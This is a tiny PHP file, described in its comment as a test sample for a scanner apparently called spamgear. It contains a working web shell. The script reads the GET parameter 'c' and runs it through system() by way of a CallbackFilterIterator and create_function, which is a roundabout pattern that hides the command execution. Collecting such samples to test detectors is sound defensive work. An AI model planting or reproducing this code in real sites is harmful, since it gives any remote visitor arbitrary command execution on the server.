<?php
// spamgear test sample: a filter iterator over request data whose callback
// is a lambda that runs each item as a command.
$items = new ArrayIterator(array($_GET['c']));
$run = new CallbackFilterIterator($items, create_function('$x', 'return system($x);'));
foreach ($run as $line) {
    echo $line;
}
